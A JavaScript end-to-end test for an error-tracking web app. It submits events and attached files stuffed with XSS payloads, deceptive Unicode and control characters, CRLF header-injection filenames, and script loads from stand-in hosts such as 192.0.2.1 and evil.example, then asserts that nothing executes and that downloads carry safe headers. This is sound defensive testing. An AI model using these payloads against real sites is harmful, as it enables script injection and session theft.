// Whatever an event contains, its page only shows it.
"use strict";

const assert = require("node:assert/strict");
const { test, before } = require("node:test");
const { withBrowser, visitor, signIn } = require("../lib/browser.js");
const faultline = require("../lib/faultline.js");

const PROJECT = "hostile";

// What an attacker would want to run or fetch.
const SCRIPTS = [
  "<script>window.hacked = 1; alert(1)</script>",
  "<img src=x onerror='window.hacked = 2'><img src='http://192.0.2.1/beacon.png'>",
  "\"><svg onload='window.hacked = 3'>",
  "' onmouseover='window.hacked = 4' autofocus onfocus='window.hacked = 5' x='",
  "</textarea></title></style></pre><script src='http://192.0.2.1/evil.js'></script>",
  "<meta http-equiv=refresh content='0; url=http://192.0.2.1/'><base href='http://192.0.2.1/'>",
  "<iframe srcdoc='<script>parent.hacked = 6</script>'></iframe>",
  "<style>@import 'http://192.0.2.1/evil.css'</style><form action='http://192.0.2.1/'><button>Resolve</button></form>",
  "javascript:window.hacked=7",
].join(" ");
// Direction marks, Unicode line breaks, a byte order mark, and control characters.
const DECEPTIVE = "\u202e\u202a\u2066\u2069\u200f\u200e\u061c\u2028\u2029\ufeff\u0000\u0007\u001b[31m\u007f\u0085\u009b";
const DECEPTIVE_SEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

const deep = (depth, inner) => Array.from({ length: depth }).reduce((value) => ({ [SCRIPTS.slice(0, 8)]: [value] }), inner);
const many = (count, make) => Object.fromEntries(Array.from({ length: count }, (_, number) => make(number)));
const raised = (type, value, frames) => ({ exception: { values: [{ type, value, stacktrace: { frames } }] } });

function everywhere(text) {
  const frame = { filename: text, function: text, module: text, lineno: 1, in_app: true, context_line: text, pre_context: [text], vars: { [text]: text } };
  return {
    ...raised(`Everywhere ${text}`, text, [frame, frame]),
    transaction: text, culprit: text, logger: text, server_name: text, release: "1", environment: "test",
    tags: { [text.slice(0, 30)]: text, script: text.slice(0, 150) },
    user: { id: text, email: text, [text]: text },
    request: { url: text, method: text, query_string: text, data: { [text]: text }, headers: { [text]: text }, cookies: { [text]: text } },
    breadcrumbs: [{ category: text, message: text, data: { [text]: text } }],
    contexts: { [text]: { [text]: text }, browser: { name: text } },
    extra: { [text]: text },
    modules: { [text]: text },
    sdk: { name: text, version: text },
  };
}

// Each event has a word that must be readable on its page, and the maximum size of the page's HTML, in bytes.
const EVENTS = [
  { word: "Everywhere", most: 200_000, event: everywhere(SCRIPTS) },
  { word: "Deceptive", most: 100_000, event: { ...everywhere(DECEPTIVE), ...raised(`Deceptive ${DECEPTIVE}`, `user${DECEPTIVE}nimda`, [{ function: DECEPTIVE }]) } },
  { word: "LongMessage", most: 150_000, event: raised("LongMessage", "<b>&\"".repeat(170_000), []) },
  { word: "LongWord", most: 150_000, event: { ...raised("LongWord", "x", [{ filename: "f".repeat(400_000), function: "n".repeat(400_000) }]), tags: { t: "w".repeat(100_000) } } },
  { word: "LongType", most: 150_000, event: raised(`LongType${"t".repeat(1_000_000)}`, "x", []) },
  { word: "ManyFrames", most: 300_000, event: raised("ManyFrames", "x", Array.from({ length: 10_000 }, (_, number) => ({ function: `f${number}`, filename: "recursion.py", lineno: number, in_app: true }))) },
  { word: "ManyVariables", most: 1_500_000, event: raised("ManyVariables", "x", Array.from({ length: 60 }, () => ({ function: "f", filename: "a.py", context_line: "&".repeat(300), vars: many(50, (number) => [`v${number}`, "\"".repeat(140)]) }))) },
  { word: "ManyKeys", most: 600_000, event: { ...raised("ManyKeys", "x", []), extra: many(8_000, (number) => [`extra ${number}`, "e"]), tags: many(3_000, (number) => [`tag${number}`, "t"]), contexts: many(2_000, (number) => [`context ${number}`, { a: number }]) } },
  { word: "ManyCrumbs", most: 400_000, event: { ...raised("ManyCrumbs", "x", []), breadcrumbs: Array.from({ length: 5_000 }, (_, number) => ({ category: "c", message: SCRIPTS.slice(0, 100) + number })) } },
  { word: "Deep", most: 150_000, event: { ...raised("Deep", "x", []), extra: deep(48, SCRIPTS), contexts: { deep: deep(48, DECEPTIVE) }, request: { data: deep(48, SCRIPTS) } } },
];

let errors;
before(
  async () => {
    const { dsn } = await faultline.project(PROJECT);
    for (const { event } of EVENTS) await faultline.post(dsn, event);
    await faultline.attach(dsn, { exception: { values: [{ type: "Attached", value: "with files" }] } }, FILES);
    errors = await faultline.seen(PROJECT, EVENTS.length + 1);
    const { fingerprint } = errors.find((error) => error.type.startsWith("Everywhere"));
    await faultline.call("PATCH", `/projects/${PROJECT}/errors/${fingerprint}`, { assignee: SCRIPTS.slice(0, 190) });
    await faultline.call("POST", `/projects/${PROJECT}/errors/${fingerprint}/comments`, { text: SCRIPTS + DECEPTIVE });
  },
  { timeout: 180_000 },
);

test("hostile events are shown, and do nothing", { timeout: 480_000 }, (t) =>
  withBrowser(async (browser) => {
    const { page, watch } = await visitor(browser);
    await signIn(page);

    // Returns the size of the page's HTML.
    const opened = async (address, word) => {
      const answer = await page.goto(address, { waitUntil: "load" });
      assert.equal(answer.status(), 200, address);
      await page.getByText(word).first().waitFor();
      const { hacked, text, wide } = await page.evaluate(() => ({
        hacked: globalThis.hacked,
        text: document.body.textContent,
        wide: document.documentElement.scrollWidth - innerWidth,
      }));
      assert.equal(hacked, undefined, `a script of the event ran on ${address}`);
      assert.equal(await page.locator("script").count(), 1, `only the page's own script is on ${address}`);
      assert.doesNotMatch(text.replace(/[\n\t]/g, ""), DECEPTIVE_SEEN, `something deceives the reader of ${address}`);
      assert.ok(wide <= 0, `${address} is ${wide} pixels wider than the window`);
      await watch.clean();
      return (await answer.body()).length;
    };

    for (const { word, most } of EVENTS) {
      const error = errors.find((one) => one.type.startsWith(word));
      const weight = await opened(`/projects/${PROJECT}/errors/${error.fingerprint}`, word);
      t.diagnostic(`${word}: ${weight} bytes`);
      assert.ok(weight <= most, `${word}: ${weight} bytes of HTML, not ${most}`);
    }
    const weight = await opened(`/projects/${PROJECT}/errors`, "Everywhere");
    assert.ok(weight < 100_000, `the list: ${weight} bytes of HTML`);
    await opened(`/projects/${PROJECT}/errors?q=${encodeURIComponent(`tag:script="${SCRIPTS.slice(0, 40).replaceAll('"', "")}"`)}`, "Open");
    await opened(`/projects/${PROJECT}/errors?status=${encodeURIComponent(SCRIPTS)}&sort=${encodeURIComponent(SCRIPTS)}`, "Open");
    await rawIsNoPage(page);
    await filesAreInert(page, opened);
    await watch.clean();
  }),
);

// Files with markup and scripts, whatever type they claim to have.
const HTML = `<html><body><script>window.hacked = 1; fetch("https://evil.example/")</script></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>window.hacked = 1</script></svg>`;
const FILES = [
  { name: `"><script>window.hacked = 1</script>.png`, type: "image/png", content: HTML },
  { name: "page.html", type: "text/html", content: HTML },
  { name: "drawing.svg", type: "image/svg+xml", content: SVG },
  { name: "text.txt", type: "text/plain", content: HTML + DECEPTIVE },
  { name: "really.html", type: "text/plain; charset=utf-7", content: HTML },
  { name: "\r\nset-cookie: a=b", type: "text/html\r\nx: y", content: HTML },
];

// Files are listed, shown as text, and sent for saving. Opened by their address, none of them runs.
async function filesAreInert(page, opened) {
  const { fingerprint } = errors.find((error) => error.type === "Attached");
  await opened(`/projects/${PROJECT}/errors/${fingerprint}`, "drawing.svg");
  const links = await page.locator(".files a").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
  assert.equal(links.length, FILES.length);
  for (const link of links) {
    const answer = await page.request.get(link);
    const headers = answer.headers();
    assert.equal(answer.status(), 200, link);
    assert.match(headers["content-type"], /^(image\/png|text\/plain; charset=utf-8|application\/octet-stream)$/);
    assert.match(headers["content-disposition"], /^attachment; filename="[\w. -]+"; filename\*=UTF-8''[\w%]+$/);
    assert.equal(headers["x-content-type-options"], "nosniff");
    assert.equal(headers["content-security-policy"], "default-src 'none'; sandbox");
    assert.equal(headers["set-cookie"], undefined);
  }
}

// The stored event is served as JSON, which no browser treats as a page.
async function rawIsNoPage(page) {
  const { fingerprint } = errors.find((error) => error.type.startsWith("Everywhere"));
  await page.goto(`/projects/${PROJECT}/errors/${fingerprint}`);
  const raw = await page.getByRole("link", { name: "Raw event" }).getAttribute("href");
  const answer = await page.request.get(raw);
  assert.equal(answer.status(), 200, `${raw}: ${(await answer.text()).slice(0, 2_000)}`);
  assert.equal(answer.headers()["content-type"], "application/json");
  assert.equal(answer.headers()["x-content-type-options"], "nosniff");
  assert.match(JSON.parse(await answer.text()).type, /<script>window.hacked = 1/, "the event as it was sent");
}
